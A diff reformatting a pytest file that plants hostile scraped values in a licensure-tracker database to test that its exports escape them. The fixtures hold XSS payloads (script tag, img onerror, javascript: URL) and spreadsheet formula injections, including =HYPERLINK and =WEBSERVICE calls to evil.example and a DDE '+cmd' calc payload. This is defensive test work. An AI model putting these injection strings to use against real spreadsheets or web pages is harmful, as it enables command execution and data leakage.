@@ -30,8 +30,10 @@ from tracker.textsafe import FORMULA_START
 
 STATES = ["CA", "NY", "WA"]
 T3 = datetime(2026, 11, 2, 9, tzinfo=UTC)
-SCRIPT = ('<script>document.title="PWNED";document.body.setAttribute("data-pwned","1")</script>'
-          '<img src=x onerror="document.body.setAttribute(\'data-pwned\',\'2\')">')
+SCRIPT = (
+    '<script>document.title="PWNED";document.body.setAttribute("data-pwned","1")</script>'
+    "<img src=x onerror=\"document.body.setAttribute('data-pwned','2')\">"
+)
 EVIL = {
     "regulator": '=HYPERLINK("http://evil.example/x","click me")',
     "citation": "+cmd|' /C calc'!A0",
@@ -40,7 +42,7 @@ EVIL = {
     "tab": "\t=1+1 tab first",
     "cr": "\r=2+2 carriage return first",
     "url": "javascript:document.body.setAttribute('data-pwned','3')",
-    "summary": "=WEBSERVICE(\"http://evil.example/\") " + SCRIPT,
+    "summary": '=WEBSERVICE("http://evil.example/") ' + SCRIPT,
 }
 
 
@@ -53,18 +55,34 @@ def plant(db: Database) -> None:
         record["regulators"][0]["url"] = EVIL["url"]
         record["citations"][0]["identifier"] = EVIL["citation"]
         record["credential"]["state_credentials"]["value"] = [
-            {"name": EVIL["credential"], "abbreviation": None, "issuer": None}]
+            {"name": EVIL["credential"], "abbreviation": None, "issuer": None}
+        ]
         sid = record["sources"][0]["source_id"]
         record["credential"]["requirement"]["evidence"] = [
-            {"source_id": sid, "excerpt": EVIL["excerpt"]}, {"source_id": sid, "excerpt": EVIL["tab"]},
-            {"source_id": sid, "excerpt": EVIL["cr"]}]
+            {"source_id": sid, "excerpt": EVIL["excerpt"]},
+            {"source_id": sid, "excerpt": EVIL["tab"]},
+            {"source_id": sid, "excerpt": EVIL["cr"]},
+        ]
         record["sources"].append({**record["sources"][0], "source_id": "evil-source", "url": EVIL["url"]})
         record["supervision"]["evidence"] = [{"source_id": "evil-source", "excerpt": "<b>bold?</b> " + SCRIPT}]
         storage.append_version(s, None, "WA", "medical-assistant", record, values_hash(record))
-        storage.add_change(s, run_id=None, jurisdiction="WA", profession="medical-assistant", category="requirement",
-                           field="regulators", kind="changed", direction=None, old_value=None, new_value=EVIL["regulator"],
-                           evidence_before=[], evidence_after=[], source_url=EVIL["url"], content_hash=None,
-                           summary=EVIL["summary"])
+        storage.add_change(
+            s,
+            run_id=None,
+            jurisdiction="WA",
+            profession="medical-assistant",
+            category="requirement",
+            field="regulators",
+            kind="changed",
+            direction=None,
+            old_value=None,
+            new_value=EVIL["regulator"],
+            evidence_before=[],
+            evidence_after=[],
+            source_url=EVIL["url"],
+            content_hash=None,
+            summary=EVIL["summary"],
+        )
 
 
 @pytest.fixture(scope="module", params=["sqlite", "postgresql"])
@@ -74,7 +92,9 @@ def planted(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFac
     if request.param == "sqlite":
         urls = iter([f"sqlite:///{tmp / 'planted.db'}"])
     elif not PG_URL:
-        pytest.skip("PostgreSQL variant skipped: set LICENSURE_TEST_POSTGRES_URL (CI uses postgresql+psycopg://postgres@127.0.0.1:5432/test)")
+        pytest.skip(
+            "PostgreSQL variant skipped: set LICENSURE_TEST_POSTGRES_URL (CI uses postgresql+psycopg://postgres@127.0.0.1:5432/test)"
+        )
     else:
         urls = _pg_schema_url()
     url = next(urls)
@@ -125,7 +145,11 @@ def test_json_keeps_the_exact_values(planted):
     wa = next(r for r in doc["rows"] if r["jurisdiction"] == "WA")
     assert wa["cells"]["regulators"]["value"][0]["name"] == EVIL["regulator"]
     assert wa["cells"]["citations"]["text"].startswith(EVIL["citation"])
-    assert [e["excerpt"] for e in wa["cells"]["credential_requirement"]["evidence"]] == [EVIL["excerpt"], EVIL["tab"], EVIL["cr"]]
+    assert [e["excerpt"] for e in wa["cells"]["credential_requirement"]["evidence"]] == [
+        EVIL["excerpt"],
+        EVIL["tab"],
+        EVIL["cr"],
+    ]
 
 
 def test_markdown_escapes_scraped_text(planted):
@@ -150,7 +174,9 @@ def test_html_shows_scraped_markup_as_text_and_links_only_http(planted):
     assert "default-src 'none'" in csp and "unsafe-inline" not in csp and "'sha256-" in csp
 
 
-@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (apt-get install -y chromium; .ci/run installs it)")
+@pytest.mark.skipif(
+    CHROMIUM is None, reason="chromium is not installed (apt-get install -y chromium; .ci/run installs it)"
+)
 def test_nothing_scraped_runs_in_a_browser(planted, tmp_path):
     if planted["backend"] != "sqlite":
         pytest.skip("the browser check needs one backend only; the bytes are the same on both (see below)")
@@ -172,7 +198,9 @@ def test_sqlite_and_postgresql_give_the_same_bytes(settings, tmp_path):
         settle_snapshot(db, settings, "2026-05-01", T1, codes)
         settle_snapshot(db, settings, "2026-11-01", T2, codes)
         with db.session() as s:
-            files.append({kind: render(kind, build_table(s, Options(changed_since=T1.replace(day=2)))) for kind in FORMATS})
+            files.append(
+                {kind: render(kind, build_table(s, Options(changed_since=T1.replace(day=2)))) for kind in FORMATS}
+            )
             files.append({kind: render(kind, build_table(s, Options(as_of=T1.replace(day=3)))) for kind in FORMATS})
         db.dispose()
     assert files[0] == files[2] and files[1] == files[3]
